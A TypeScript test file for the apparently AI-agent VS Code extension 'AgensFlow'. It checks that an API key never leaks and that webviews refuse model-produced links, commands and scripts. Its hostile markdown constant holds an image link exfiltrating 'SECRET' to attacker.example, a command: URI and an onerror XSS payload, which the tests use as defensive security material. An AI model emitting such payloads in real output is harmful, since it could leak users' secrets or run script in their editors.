/**
 * The whole extension, activated in the stand-in host (./fakeVscode.ts) against a loopback fake model
 * server: what its webviews receive (V3, V5, V7), and what a window closing in the middle of a run leaves
 * behind (X7) and shows after the reload (X6).
 */
import './install';
import { strict as assert } from 'node:assert';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { FakeModelServer, type FakeReply, type RecordedRequest } from '../../fixtures/fake-servers';
import { taskOf } from '../cli-run/fakeAgent';
import { activate, deactivate, type AgensFlowExports } from '../../../src/extension';
import { PROTOCOL_VERSION, type HostMessage } from '../../../src/protocol/messages';
import { INTERRUPTED_VIEW_REASON } from '../../../src/vscode/run/recordEvents';
import { INTERRUPTED_REASON, type RunResult } from '../../../src/vscode/run/runController';
import { RunJournal, listRuns } from '../../../src/core/run';
import { GraphApp } from '../../../src/webview/graphApp';
import { SidebarApp } from '../../../src/webview/sidebarApp';
import { DANGEROUS, elementsWithHandlers, makeDocument } from '../webview/dom';
import * as fake from './fakeVscode';

const SENTINEL = 'sk-TEST-SENTINEL-7f3a9c1e5b2d4a6f8e0c';
const EXTENSION_ROOT = resolve(__dirname, '../../..');
const HOSTILE_MARKDOWN = '![x](https://attacker.example/?d=SECRET) [run me](command:workbench.action.terminal.new) <img src=x onerror=alert(1)> [site](https://attacker.example/)';

interface Setup {
  base: string;
  root: string;
  storage: string;
  server: FakeModelServer;
  context: ReturnType<typeof fake.extensionContext>;
  exports: AgensFlowExports;
}

async function setup(handler: (req: RecordedRequest) => FakeReply): Promise<Setup> {
  const base = mkdtempSync(join(tmpdir(), 'af-ext-'));
  const root = join(base, 'ws');
  const storage = join(base, 'storage');
  mkdirSync(root);
  const server = await FakeModelServer.start({ handler });
  fake.workspace.workspaceFolders = [{ uri: fake.Uri.file(root), name: 'ws', index: 0 }];
  // The user's own settings (not the folder's): no base-URL question.
  fake.state.config.set('agensflow.provider', 'openai');
  fake.state.config.set('agensflow.baseUrl', server.openaiBaseUrl);
  fake.state.config.set('agensflow.models.agent', 'gpt-4o-mini');
  fake.state.config.set('agensflow.maxAgents', 2);
  fake.state.config.set('agensflow.recovery.maxRetries', 0);
  fake.state.config.set('agensflow.recovery.updatesPerTask', 0);
  const context = fake.extensionContext(storage, EXTENSION_ROOT);
  context.secrets.values.set('agensflow.apiKey.openai', SENTINEL);
  const exports = activate(context as never);
  return { base, root, storage, server, context, exports };
}

async function teardown(s: Setup | undefined): Promise<void> {
  if (!s) return;
  await deactivate();
  for (const d of s.context.subscriptions.splice(0).reverse()) d.dispose();
  await s.server.close();
  rmSync(s.base, { recursive: true, force: true });
}

function writePlan(s: Setup, tasks: { id: string; deps?: string[]; files: string[] }[]): fake.Uri {
  const file = join(s.base, 'plan.json');
  writeFileSync(file, JSON.stringify({ goal: 'test', tasks: tasks.map((t) => ({ title: t.id.toUpperCase(), objective: `do ${t.id}`, ...t })) }));
  return fake.Uri.file(file);
}

/** Every file's text under `dir`. */
function allText(dir: string): string {
  return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => readFileSync(join(e.parentPath, e.name), 'utf8')).join('\n');
}

/** Opens the graph panel and has its page say it is ready. */
async function openGraph(): Promise<fake.FakeWebviewPanel> {
  await fake.commands.executeCommand('agensflow.showGraph');
  const panel = fake.state.panels.at(-1);
  assert.ok(panel, 'the graph panel opened');
  panel.webview.fromPage({ type: 'ready', view: 'graph', protocol: PROTOCOL_VERSION });
  return panel;
}

describe('vscode extension under attack (stand-in host, fake model server)', function () {
  this.timeout(60_000);
  let s: Setup | undefined;
  beforeEach(() => fake.resetHost());
  afterEach(async () => {
    await teardown(s);
    s = undefined;
  });

  it('V7, V3, V5: the key never reaches a webview message, the page state, the log or the journal; model markdown stays text; only media/ and dist/ load', async () => {
    s = await setup((req) => {
      const t = taskOf(req);
      if (req.forcedTool === 'submit_verdict') return { kind: 'message', toolCalls: [{ name: 'submit_verdict', arguments: { pass: true, reasons: [HOSTILE_MARKDOWN] } }] };
      // A server echoing the key it was sent in its error (some do, in part).
      if (t?.id === 'leaky') return { kind: 'error', status: 401, echoAuth: true, message: `Incorrect API key provided: ${SENTINEL}` };
      if (t?.turn === 1) return { kind: 'message', text: HOSTILE_MARKDOWN, toolCalls: [{ name: 'write_file', arguments: { path: 'notes.md', content: `${HOSTILE_MARKDOWN}\n` } }] };
      return { kind: 'message', text: HOSTILE_MARKDOWN, toolCalls: [{ name: 'finish', arguments: { summary: HOSTILE_MARKDOWN } }] };
    });
    const panel = await openGraph();
    const plan = writePlan(s, [{ id: 'notes', files: ['notes.md'] }, { id: 'leaky', deps: ['notes'], files: ['leak.md'] }]);

    const result = (await fake.commands.executeCommand('agensflow.runPlanFile', plan)) as RunResult | undefined;
    assert.ok(result, 'the run ran');
    // The views get the run's last state a moment after the command returns (the panel's post is not awaited by
    // the run): wait for the failure's post itself rather than for a turn of the event loop, which under load can
    // come first.
    await panel.webview.whenPosted((m) => JSON.stringify(m).includes('Incorrect API key provided'));
    // The key was in use: the server received it.
    assert.ok(s.server.requests.some((r) => r.apiKey === SENTINEL));
    assert.ok(s.server.requests.some((r) => taskOf(r)?.id === 'leaky'));
    const state = s.exports.runState();
    assert.equal(state.statuses.leaky, 'failed');

    // V7: nowhere but SecretStorage.
    const posted = JSON.stringify(panel.webview.posted);
    assert.ok(posted.includes('Incorrect API key provided: [redacted]'), 'the server\'s echo of the key reached the views, redacted');
    assert.ok(panel.webview.posted.length > 0, 'the panel was sent state');
    assert.ok(!posted.includes(SENTINEL), 'no postMessage payload holds the key');
    assert.ok(!JSON.stringify(state).includes(SENTINEL), 'the views\' state holds no key');
    assert.ok(!fake.state.outputLines.join('\n').includes(SENTINEL), 'the log holds no key');
    assert.ok(!JSON.stringify(fake.state.messages).includes(SENTINEL), 'no notification holds the key');
    assert.ok(!allText(s.storage).includes(SENTINEL), 'the journal and policy hold no key');
    assert.ok(!allText(s.root).includes(SENTINEL), 'the workspace holds no key');
    assert.deepEqual(s.context.globalState.writes.filter((w) => JSON.stringify(w).includes(SENTINEL)), []);
    assert.deepEqual(s.context.workspaceState.writes.filter((w) => JSON.stringify(w).includes(SENTINEL)), []);
    assert.ok(!JSON.stringify([...fake.state.config.values()]).includes(SENTINEL), 'no setting holds the key');

    // The page: everything posted, through the real graph app; its saved state (setState) holds no key, and
    // the model's markdown is text: no image, link or command element.
    const { window, root } = makeDocument();
    const saved: unknown[] = [];
    const app = new GraphApp(root, { post: () => undefined, getState: () => undefined, setState: (v) => saved.push(JSON.parse(JSON.stringify(v))) });
    for (const m of panel.webview.posted) app.receive(m as HostMessage);
    app.receive({ type: 'focusTask', taskId: 'notes' });
    await new Promise<void>((r) => window.requestAnimationFrame(() => r()));
    assert.ok(!JSON.stringify(saved).includes(SENTINEL), 'no setState blob holds the key');
    assert.deepEqual([...root.querySelectorAll(DANGEROUS)].map((e) => e.outerHTML.slice(0, 80)), [], 'no element from model text');
    assert.deepEqual(elementsWithHandlers(root), []);
    assert.ok(root.textContent?.includes('![x](https://attacker.example/?d=SECRET)'), 'the markdown shows as literal text');
    await window.happyDOM.close();

    // V3/V5: the page can load nothing remote and reach nothing but media/ and dist/.
    const options = panel.options as { enableCommandUris?: boolean; enableScripts?: boolean; localResourceRoots?: fake.Uri[] };
    assert.equal(options.enableCommandUris, false, 'command: links do nothing');
    assert.deepEqual(options.localResourceRoots?.map((u) => u.path), [join(EXTENSION_ROOT, 'media'), join(EXTENSION_ROOT, 'dist')]);
    const webviewOptions = panel.webview.options as typeof options;
    assert.deepEqual(webviewOptions.localResourceRoots?.map((u) => u.path), [join(EXTENSION_ROOT, 'media'), join(EXTENSION_ROOT, 'dist')]);
    for (const u of panel.webview.resourceRequests) {
      assert.ok(u.path.startsWith(join(EXTENSION_ROOT, 'media') + '/') || u.path.startsWith(join(EXTENSION_ROOT, 'dist') + '/'), `${u.path} is under media/ or dist/`);
      assert.ok(!u.path.startsWith(s.root), 'never a workspace file');
    }
    const csp = /Content-Security-Policy" content="([^"]+)"/.exec(panel.webview.html)?.[1] ?? '';
    assert.match(csp, /img-src https:\/\/fake\.vscode-cdn\.net(;|$)/, 'images only from the webview\'s own resource origin');
    assert.doesNotMatch(csp, /attacker|https:(?!\/\/fake\.vscode-cdn\.net)|\*/);
    // No link was opened, no command run on the page's behalf; a page asking for either is refused.
    panel.webview.fromPage({ type: 'openExternal', url: 'https://attacker.example/' });
    panel.webview.fromPage({ type: 'runCommand', command: 'workbench.action.terminal.new' });
    assert.deepEqual(fake.state.executed.filter((e) => e.command === 'env.openExternal' || e.command.startsWith('workbench.')), []);
    assert.ok(fake.state.outputLines.some((l) => /rejected a message \(type "openExternal"\)/.test(l)));
  });

  it('X7, X6: closing the window mid-run aborts its requests and writes the journal; the reloaded window shows it interrupted, its patches reviewable', async () => {
    let holdArrived: () => void = () => undefined;
    // The slow task's model hangs until the window has closed; the resumed run finds it answering.
    let hang = true;
    const held = new Promise<void>((r) => {
      holdArrived = r;
    });
    s = await setup((req) => {
      const t = taskOf(req);
      if (req.forcedTool === 'submit_verdict') return { kind: 'message', toolCalls: [{ name: 'submit_verdict', arguments: { pass: true, reasons: ['ok'] } }] };
      if (!t) return { kind: 'error', status: 400, message: 'no task line' };
      if (t.id === 'slow' && hang) {
        holdArrived();
        return { kind: 'hang' };
      }
      if (t.turn === 1) return { kind: 'message', toolCalls: t.owned.map((p) => ({ name: 'write_file', arguments: { path: p, content: `# ${p}\n` } })) };
      return { kind: 'message', toolCalls: [{ name: 'finish', arguments: { summary: 'done' } }] };
    });
    const plan = writePlan(s, [{ id: 'first', files: ['first.txt'] }, { id: 'slow', deps: ['first'], files: ['slow.txt'] }]);
    let result: RunResult | undefined;
    const running = Promise.resolve(fake.commands.executeCommand('agensflow.runPlanFile', plan)).then((r) => {
      result = r as RunResult;
    });
    await held; // `first` is done (its patch staged), `slow` is waiting on the model

    await deactivate();

    // The run had ended by the time deactivate returned: request aborted, journal written.
    assert.equal(result?.status, 'interrupted');
    await running;
    await s.server.idle();
    const slowRequest = s.server.requests.find((r) => taskOf(r)?.id === 'slow');
    assert.equal(slowRequest?.closedByClient, true, 'the model request in flight was aborted');
    const [summary] = await listRuns(join(s.storage, 'workspace'));
    assert.equal(summary.status, 'running', 'the journal says interrupted (running, with no process)');
    const journal = await RunJournal.open(join(s.storage, 'workspace'), summary.runId);
    assert.equal(journal.record.reason, INTERRUPTED_REASON);
    assert.equal(journal.record.tasks.first.status, 'passed');
    const requestsAtClose = s.server.requests.length;
    // Nothing of the user's was touched: the staged file is not in the workspace.
    assert.deepEqual(readdirSync(s.root), []);

    // The window reloads: VS Code disposes the old extension and activates it again on the same storage.
    for (const d of s.context.subscriptions.splice(0).reverse()) d.dispose();
    fake.state.commands.clear();
    const offered = new Promise<fake.ShownMessage>((r) => {
      fake.state.onMessage = (m) => {
        if (/was interrupted/.test(m.text)) r(m);
      };
    });
    const context = fake.extensionContext(s.storage, EXTENSION_ROOT, s.context.secrets);
    s.context = context;
    s.exports = activate(context as never);
    const message = await offered;
    assert.deepEqual(message.items, ['Resume', 'Show Graph']);
    const view = s.exports.runState();
    assert.equal(view.run?.status, 'cancelled', 'shown stopped: no spinner, no Cancel');
    assert.equal(view.run?.reason, INTERRUPTED_VIEW_REASON);
    assert.equal(view.statuses.slow, 'cancelled');
    assert.equal(view.statuses.first, 'passed');
    // The sidebar shows the true state at once: interrupted, no Cancel, and a Resume button for this run.
    const sidebar = await fake.resolveView('agensflow.run');
    assert.ok(sidebar, 'the sidebar view is registered');
    const { root: page } = makeDocument();
    const app = new SidebarApp(page, { post: (c) => sidebar.webview.fromPage(c) });
    sidebar.webview.fromPage({ type: 'ready', view: 'sidebar', protocol: PROTOCOL_VERSION });
    await new Promise<void>((r) => setImmediate(r));
    const told = (sidebar.webview.posted as HostMessage[]).find((m) => m.type === 'context');
    assert.deepEqual(told?.type === 'context' ? told.context.resumable : undefined, { runId: summary.runId, interrupted: true });
    assert.equal(told?.type === 'context' ? told.context.phase : undefined, 'idle');
    for (const m of sidebar.webview.posted as HostMessage[]) app.receive(m);
    assert.equal(page.querySelector('.run-meta .badge')?.textContent, 'interrupted');
    assert.match(fake.state.statusItems.at(-1)?.text ?? '', /AgensFlow: interrupted/, 'the status bar says so too, without a spinner');
    const buttons = [...page.querySelectorAll('button')] as HTMLButtonElement[];
    assert.equal(buttons.find((b) => b.textContent?.trim() === 'Cancel')?.disabled, true);
    const resume = buttons.find((b) => b.textContent?.trim() === 'Resume');
    assert.ok(resume && !resume.hidden && !resume.disabled, 'a visible Resume button in the sidebar');
    // Its staged patch is still reviewable.
    const shown = await fake.commands.executeCommand('agensflow.reviewChanges');
    assert.equal(shown, 1);
    assert.equal(s.server.requests.length, requestsAtClose, 'nothing was sent after the window closed');
    // The sidebar's Resume continues that run (by the id the host holds, not one from the page).
    const resumed = new Promise<unknown>((r) => {
      const original = fake.state.commands.get('agensflow.resumeRun');
      fake.state.commands.set('agensflow.resumeRun', (...args: unknown[]) => {
        const result = original?.(...args);
        r(result);
        return result;
      });
    });
    hang = false;
    resume.click();
    const outcome = (await resumed) as RunResult | undefined;
    assert.equal(outcome?.runId, summary.runId);
    assert.equal(outcome?.status, 'completed');
    assert.ok(s.server.requests.length > requestsAtClose, 'the resumed run asked the model again');
  });
});
